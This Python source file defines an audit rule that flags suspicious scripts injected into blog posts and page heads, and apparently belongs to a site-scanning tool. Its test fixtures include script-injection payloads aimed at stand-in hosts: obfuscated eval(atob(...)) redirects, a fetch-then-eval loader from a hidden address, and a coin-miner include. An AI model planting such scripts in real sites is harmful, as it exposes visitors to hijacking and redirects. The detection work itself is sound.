"""INJ001."""

from __future__ import annotations

import re
from base64 import b64decode
from binascii import Error as BinasciiError
from typing import TYPE_CHECKING
from urllib.parse import unquote

from audit.facts.url import parse_url
from audit.finding import Confidence, CorpusFinding, Evidence, Severity, Witness, others
from audit.rule import Bad, CorpusRule, Good
from audit.rules.injected._code import (
    AUTOMATIC,
    Holder,
    Piece,
    concealed_addresses,
    is_named_beside,
    is_stranger,
    loaded_addresses,
    named_addresses,
    pieces,
    reading_of,
    scripts,
    shown,
    source_of,
    written_addresses,
)
from audit.rules.injected._signatures import ADVICE, CHECKS, oddness

if TYPE_CHECKING:
    from collections.abc import Iterable, Iterator, Sequence

    from turbohtml import Element

    from audit.facts import Facts
    from audit.facts.url import Url
    from audit.site import SiteTotals

_TEXT = "<p>The boats rose with the tide and the pilots waited for the evening wind.</p>"
_SITE_CODE = 0.5
"""Share of a site's posts from which a script is the site's own: a plugin or the template puts it there."""
_SEVERAL = 2


class InjectedScript(CorpusRule, code="INJ001", severity=Severity.ERROR, since="0.1.0"):
    """A script in the text hides what it does, or comes from a host that nobody here knows.

    Whoever can put a script into a post can read what visitors type, send them elsewhere, or make them install
    something. What editors paste in (counters, advertising, players, charts, forms) is known and comes openly.
    """

    remedy = ADVICE
    sources = CHECKS
    needs = frozenset({"content"})
    reads_content = True
    keeps_quotes = True
    examples = (
        Bad(
            f'{_TEXT}<iframe width="0" height="0" srcdoc="&lt;script src=&quot;https://203.0.113.7/c.js&quot;&gt;'
            '&lt;/script&gt;"></iframe>',
            says="203.0.113.7",
            points_at="srcdoc",
            note="The page of a frame that is written into the post.",
        ),
        Bad(
            f'{_TEXT}<script>eval(atob("ZG9jdW1lbnQubG9jYXRpb249Imh0dHBzOi8vcHJpemUuZXhhbXBsZS8i"))</script>',
            says="runs code that it decodes first",
            points_at="<script",
        ),
        Bad(f'{_TEXT}<script src="https://203.0.113.7/w.js"></script>', says="203.0.113.7"),
        Bad(f'{_TEXT}<script src="https://traffic-gate.example/in.js"></script>', says="traffic-gate.example"),
        Bad(
            f'{_TEXT}<script src="https://cdn.example/coinhive.min.js"></script>',
            says="comes from cdn.example and makes readers' computers mine coins",
        ),
        Bad(
            f"{_TEXT}<script>var s=document.createElement('script');s.src='//gate.example/w.js';"
            "document.head.appendChild(s)</script>",
            says="gate.example",
        ),
        Bad(
            f"{_TEXT}<script>fetch(atob('Ly9nYXRlLmV4YW1wbGUvYQ==')).then(r=>r.text()).then(t=>eval(t))</script>",
            says="from an address that it hides",
        ),
        Good(
            f"{_TEXT}<script>fetch(atob('L3RpZGVzLmpzb24=')).then(r=>r.json()).then(show)</script>",
            note="It runs nothing of what it gets.",
        ),
        Bad(
            _TEXT,
            fields={"excerpt": {"rendered": "<p>Boats.</p><script>eval(atob('YWxlcnQoMSk7YWxlcnQoMik7'))</script>"}},
            says="A script in the excerpt runs code",
        ),
        Bad(
            _TEXT,
            fields={"acf": {"intro": [{"text": '<script src="https://203.0.113.7/w.js"></script>'}]}},
            says="A script in the custom fields comes from 203.0.113.7",
        ),
        Bad(
            _TEXT,
            head='<title>Tide</title><script src="https://203.0.113.7/w.js"></script>',
            says="A script in the head comes from 203.0.113.7",
        ),
        Bad(
            f'{_TEXT}<svg viewBox="0 0 9 9"><script href="https://203.0.113.7/w.js"></script></svg>',
            says="comes from 203.0.113.7",
        ),
        Good(
            _TEXT,
            head='<title>Tide</title><script src="https://www.googletagmanager.com/gtag/js?id=G-7"></script>',
        ),
        Good(
            _TEXT,
            fields={"acf": {"embed": '<script async src="https://platform.twitter.com/widgets.js"></script>'}},
            note="An embed in a field for embeds.",
        ),
        Bad(
            f'{_TEXT}<script src="data:text/javascript;base64,YWxlcnQoMSk="></script>', says="stands in its own address"
        ),
        Bad(
            f'{_TEXT}<script defer src="data:text/javascript;base64,ZXZhbChhdG9iKCdaRzlqZFcxbGJuUXViRzlqWVhS'
            'cGIyNDlJbWgwZEhCek9pOHZjSEpwZW1VdVpYaGhiWEJzWlM4aScpKQ=="></script>',
            says="runs code that it decodes first",
        ),
        Good(
            f'{_TEXT}<script defer data-optimized="1" src="data:text/javascript;base64,dmFyIHRpZGVzPXtxdWF5OjN9O2Rv'
            'Y3VtZW50LnF1ZXJ5U2VsZWN0b3IoJy50JykudGV4dENvbnRlbnQ9dGlkZXMucXVheQ=="></script>',
            note="What a plugin for speed makes of an ordinary script.",
        ),
        Good(
            f"{_TEXT}<script>var s=document.createElement('script');"
            "s.src='https://ads.example/www/delivery/ajs.php?zoneid=7';document.body.appendChild(s)</script>",
            note="An ad server that many run.",
        ),
        Good(f'{_TEXT}<script async src="https://ads.example/www/delivery/asyncjs.php"></script>'),
        Bad(f'{_TEXT}<script src="https://203.0.113.7/www/delivery/ajs.php?zoneid=7"></script>', says="203.0.113.7"),
        Good(f'{_TEXT}<script async src="https://platform.twitter.com/widgets.js"></script>'),
        Good(
            f'{_TEXT}<div class="tide-clock"></div><script src="https://tide-clock.example/embed.js"></script>',
            note="The container names the service.",
        ),
        Good(
            f"{_TEXT}<script>document.write(unescape('%3Ca%20href%3D%22mailto%3Aoffice%40saltmarsh.example%22%3Email"
            "%3C/a%3E'))</script>",
            note="An address for mail, hidden from robots.",
        ),
        Good(
            f'{_TEXT}<script>document.write(unescape("%3Cscript src=\'" + scheme + "google-analytics.com/ga.js\' '
            "type='text/javascript'%3E%3C/script%3E\"));</script>",
            note="The signs of a tag, encoded so that they end no script; the rest stands there as it is.",
        ),
        Bad(
            f'{_TEXT}<script>document.write(unescape("%3Cscript src=\'" + scheme + "gate.example/w.js\'%3E%3C/script%3E'
            '"));</script>',
            says="and names gate.example",
        ),
        Good(f"{_TEXT}<script>document.write(String.fromCharCode(60,47,97,62));</script>", note="The end of a tag."),
        Good(
            f"{_TEXT}<pre><code>&lt;script&gt;eval(atob('…'))&lt;/script&gt;</code></pre>", note="Code that is shown."
        ),
        Good(
            posts=[
                {"content": {"rendered": f'{_TEXT}<script src="https://gate.example/w.js"></script>'}},
                {"content": {"rendered": f'{_TEXT}<script src="https://gate.example/w.js"></script><p>More.</p>'}},
            ],
            note="In every post: the template puts it there.",
        ),
    )

    def gather(self, facts: Facts) -> Iterable[tuple[str, Witness]]:
        """One witness for each script that says something suspicious; key: site, and host or sign."""
        return _suspicious(facts) if scripts(facts) or pieces(facts) else ()

    def check(self, key: str, witnesses: Sequence[Witness], totals: SiteTotals) -> Iterable[CorpusFinding]:
        """One finding for each post; silent about what is not certain and stands in half of the site's posts."""
        posts = len({witness.order for witness in witnesses})
        common = posts >= _SEVERAL and posts >= _SITE_CODE * totals.posts
        told: set[int] = set()
        for witness in sorted(witnesses, key=lambda one: (one.order, not one.values[1])):
            says, certain, host, code, hidden, where = witness.values
            if witness.order in told or (common and not certain):
                continue
            told.add(witness.order)
            related, count = others(witness, witnesses, "has the same script")
            evidence = [Evidence("code", str(code))] if code else []
            if hidden:
                evidence.append(Evidence("decodes to", str(hidden)))
            if host:
                evidence.append(Evidence("host", str(host)))
            yield CorpusFinding(
                f"A script in the {where} {says}.",
                value=key.partition("\t")[2],
                target=str(host),
                severity=None if certain else Severity.WARNING,
                confidence=Confidence.LIKELY,
                evidence=tuple(evidence),
                witness=witness,
                related=related,
                related_count=count,
            )


_Values = tuple[str, bool, str, str, str]


def _suspicious(facts: Facts) -> Iterator[tuple[str, Witness]]:
    for holder, node in scripts(facts):
        if (found := _linked(node, holder, facts)) is not None:
            yield f"{facts.site}\t{found[0]}", Witness((*found[1], holder.name), holder.place_of(node))
    for piece in pieces(facts):
        if piece.kind == "handler" and piece.attribute in AUTOMATIC:
            continue
        if (found := _inline(piece, facts)) is not None:
            yield f"{facts.site}\t{found[0]}", Witness((*found[1], piece.where), piece.place)


def _linked(node: Element, holder: Holder, facts: Facts) -> tuple[str, _Values] | None:
    """The verdict on a script that an address loads."""
    source = source_of(node)
    url = parse_url(source, facts.base) if source else None
    if url is None or (url.host and not is_stranger(url, facts)):
        return None
    if not url.host:
        return _in_address(url, node, holder, facts) if url.scheme == "data" else None
    if known := [hit for hit in reading_of(url.href).hits if hit.certain]:
        return url.host, (f"comes from {url.host} and {known[0].says}", True, url.host, shown(url.href), "")
    odd = oddness(url)
    if not odd and _is_embed(url, node, facts):
        return None
    says = f"comes from {url.host}, {odd}" if odd else f"comes from {url.host}, whose scripts are not known here"
    return url.host, (says, bool(odd), url.host, shown(url.href), "")


_DELAYED = frozenset({"defer", "async", "data-optimized", "data-no-optimize", "data-noptimize", "data-rocket-status"})
"""What plugins for speed write on the scripts of a page that they put into addresses, so that they run later.

Source: https://docs.litespeedtech.com/lscache/lscwp/pageopt/#load-js-deferred
"""


def _in_address(url: Url, node: Element, holder: Holder, facts: Facts) -> tuple[str, _Values] | None:
    """The verdict on a script that is its own address: nobody writes one so, but plugins for speed do."""
    if _DELAYED.isdisjoint(node.attrs) and "litespeed" not in (node.attr("type") or ""):
        return "data", ("stands in its own address", True, "", shown(url.href), "")
    return _inline(Piece("script", node, "", _code_of_data(url.href), holder), facts)


def _code_of_data(address: str) -> str:
    """The script that stands in an address; "" if it cannot be read."""
    header, _, body = address.partition(",")
    if not header.lower().endswith(";base64"):
        return unquote(body)
    try:
        return b64decode(unquote(body)).decode("utf-8", "replace")
    except (BinasciiError, ValueError):
        return ""


_AD_SERVER = re.compile(
    r"/(?:delivery|adserver)/(?:ajs|al|asyncjs|asyncspc|fl|spc|spcjs|ag|apu|async)\.(?:php|js)\Z", re.IGNORECASE
)
"""The scripts of Revive and of OpenX before it, which publishers run on hosts of their own.

Source: https://www.adserverplugins.com/docs/revive-adserver/invocation-tags
"""


def _is_ad_server(url: Url) -> bool:
    """A script of an ad server that many run, at its own address: an embed, unless its host is odd."""
    return _AD_SERVER.search(url.path) is not None


def _inline(piece: Piece, facts: Facts) -> tuple[str, _Values] | None:
    """The verdict on the text of a script: what it hides first, then whom it loads from."""
    reading = piece.reading
    code = reading.code
    hits = reading.hits
    written: Sequence[Url] = ()
    if [hit.id for hit in hits] == ["decoded-write"] and reading.writes_openly:
        written = written_addresses(reading, facts)
        if not written or (facts.content_has_template and not any(map(oddness, written))):
            hits = ()
    hidden = shown(" … ".join(reading.payloads))
    if hits and not reading.hides_only_contact():
        certain = [hit for hit in hits if hit.certain]
        inside = named_addresses("\n".join(reading.payloads), facts) if reading.payloads else []
        loaded = loaded_addresses(reading, facts)
        if not certain and not inside and not loaded and reading.hides_only_text():
            return None
        if {hit.id for hit in hits} <= {
            "character-codes",
            "decoded-write",
            "hex-spelling",
        } and reading.hides_only_text():
            return None
        hosts = inside or loaded or written
        host = hosts[0].host if hosts else ""
        says = (certain or hits)[0].says + (f" and names {host}" if host else "")
        strong = bool(certain) or bool(hosts) or len(hits) >= _SEVERAL
        return (certain or hits)[0].id, (says, strong, host, shown(code), hidden)
    if reading.loads_from_hidden_address:
        return "hidden-source", ("loads another one from an address that it hides", True, "", shown(code), hidden)
    for url in (*concealed_addresses(reading, facts), *loaded_addresses(reading, facts)):
        odd = oddness(url)
        concealed = url.host not in code
        if not odd and not concealed and _is_embed(url, piece.node, facts):
            continue
        says = f"loads another one from {url.host}" + (f", {odd}" if odd else "")
        return url.host, (says, bool(odd) or concealed, url.host, shown(code), hidden if concealed else "")
    return None


def _is_embed(url: Url, node: Element, facts: Facts) -> bool:
    """An ordinary host may be that of a service: of the template's, of an ad server, of one that is named beside."""
    return facts.content_has_template or _is_ad_server(url) or is_named_beside(url, node, facts)
